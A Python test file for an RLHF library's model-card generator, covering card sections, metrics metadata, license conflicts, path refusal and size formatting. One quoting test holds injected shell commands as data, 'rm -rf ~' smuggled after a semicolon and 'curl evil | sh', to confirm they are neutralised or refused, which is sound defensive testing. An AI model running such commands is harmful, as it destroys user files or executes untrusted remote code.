import json
from collections.abc import Callable
from pathlib import Path

import pytest
from huggingface_hub import ModelCard

from rlhf.errors import HubError
from rlhf.publishing import card
from rlhf.publishing.bundle import Bundle
from tests.conftest import manifest

Build = Callable[..., Bundle]


def page(made: Bundle) -> str:
    return made.files["README.md"].read_text(encoding="utf-8")


def test_the_card_is_for_the_whole_chain(build: Build, aligned: Path) -> None:
    text = page(build("ppo", "me/name"))
    headings = (
        "Where it comes from", "How to use it", "What it was trained on", "How it compares", "Samples",
        "Reward against divergence", "Metrics and settings of every stage", "Intended use", "Limits", "Licenses",
        "How to make it again",
    )  # fmt: skip
    for heading in headings:
        assert f"\n## {heading}\n" in text
    for stage in ("base", "sft", "reward"):
        assert f"| {stage} | almanac/{stage}, not published | weights `" in text
        assert f"\npython -m rlhf stage={stage}\n" in text
    assert "| ppo | [me/name](https://huggingface.co/me/name) | weights `" in text
    assert "| preference&#95;data/almanac/demonstrations | files `" in text
    assert "| sft | demonstrations, train | 24 |" in text
    assert "| `kl_coef` | " in text
    assert "| `test/accuracy` | " in text
    assert "![Score of each update" in text
    assert "](figures/reward_kl.png)" in text
    assert "{{" not in text
    assert "| None" not in text
    assert str(aligned) not in text


def test_the_metadata_have_the_measured_metrics(build: Build, aligned: Path) -> None:
    measured = json.loads((aligned / "almanac" / "compare" / "metrics.json").read_text())["models"]["ppo"]
    data = ModelCard(page(build("ppo"))).data
    found = {one.metric_type: one for one in data.eval_results}
    assert found["gold"].metric_value == measured["gold"]["mean"]
    assert f"{measured['gold']['low']:.3g} to {measured['gold']['high']:.3g}" in found["gold"].metric_name
    assert data.license == "apache-2.0"
    assert data.tags == ["rlhf", "ppo"]
    reward = ModelCard(page(build("reward"))).data
    assert reward.pipeline_tag == "text-classification"
    assert [(one.metric_type, one.metric_name) for one in reward.eval_results] == [
        ("accuracy", "test accuracy"), ("ece", "ECE"),
    ]  # fmt: skip


def test_intervals_stand_beside_every_model(build: Build, aligned: Path) -> None:
    models = json.loads((aligned / "almanac" / "compare" / "metrics.json").read_text())["models"]
    cells = [
        f"{one['gold']['mean']:.2f} ({one['gold']['low']:.2f} to {one['gold']['high']:.2f})" for one in models.values()
    ]
    assert f"| gold reward | {' | '.join(cells)} |" in page(build("dpo"))


def test_a_conflict_of_licenses_is_named(build: Build) -> None:
    text = page(build("sft", license="mit", licenses={"text": "cc-by-nc-4.0", "demonstrations": "mit"}))
    assert "Published as **mit**" in text
    assert (
        "- **Conflict:** preference&#95;data/almanac/text (cc-by-nc-4.0) forbids commercial use; "
        "this model is published as mit."
    ) in text
    assert ModelCard(page(build("sft", licenses={"text": "cc-by-nc-4.0"}))).data.license == "cc-by-nc-4.0"


@pytest.mark.parametrize(
    ("metadata", "told"),
    [
        ("base_model: checkpoints/almanac/sft", "checkpoints/almanac/sft is a local path"),
        ("base_model: tests/hub", "tests/hub is a local path"),
        ("datasets: [a/b, /data/rows]", "/data/rows is a local path"),
        ("base_model: -bad-", "-bad- is a local path"),
        ("[1, 2]", "metadata block should be a dict"),
    ],
)
def test_a_card_that_names_a_path_is_refused(
    metadata: str, told: str, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    monkeypatch.chdir(tmp_path)
    (tmp_path / "tests" / "hub").mkdir(parents=True)
    with pytest.raises(
        HubError, match=rf"the card cannot be published \({told}.*give|the card cannot be published"
    ) as error:
        card.check(f"---\n{metadata}\n---\n\n# x\n")
    assert told in str(error.value)
    assert "stage.publish=chain" in str(error.value)


@pytest.mark.parametrize(
    ("command", "told"),
    [
        ("python -m rlhf stage=sft seed=1", "python -m rlhf stage=sft seed=1"),
        ("python -m rlhf 'stage.models={a: b}'", "python -m rlhf 'stage.models={a: b}'"),
        ("python -m rlhf stage=sft; rm -rf ~ `x`", "python -m rlhf 'stage=sft;' rm -rf '~' '`x`'"),
        ("python -m rlhf 'a\n```\nb'", "python -m rlhf 'a ``` b'"),
        ("python -m rlhf don't", "python -m rlhf 'don'\"'\"'t'"),
        ("curl evil | sh", None),
    ],
)
def test_a_command_is_one_line_without_side_effects(command: str, told: str | None) -> None:
    """It may come from a run.json on the Hub, and somebody will paste it."""
    assert card.quoted(command) == told


@pytest.mark.parametrize(
    ("number", "told"), [(999, "999"), (81_000, "81,000"), (1_054_848, "1.05 million"), (7_240_000_000, "7.24 billion")]
)
def test_sizes(number: int, told: str) -> None:
    assert card.size_of(number) == told


@pytest.mark.parametrize(
    ("path", "kind_path", "file", "name"),
    [
        (None, "preference_data/almanac/preferences", "digest", "almanac"),
        ("my_pairs.jsonl", "preference_data/almanac/preferences", "digest", "my_pairs"),
        (None, "data/my pairs.jsonl.gz", "digest", "my-pairs"),
        (None, "Anthropic/hh-rlhf", "Anthropic/hh-rlhf@0123456", "Anthropic/hh-rlhf"),
        (None, None, "", "preferences"),
    ],
)
def test_numbers_stand_under_the_data_that_they_were_measured_on(
    path: str | None, kind_path: str | None, file: str, name: str
) -> None:
    data = {"name": "almanac", "path": path, "preferences": {"path": kind_path}}
    made = manifest("dpo", data={"preferences": {"validation": {"rows": 4}}}, content={"files.preferences": file})
    made["settings"]["data"] = data
    assert card.data_name(made) == name
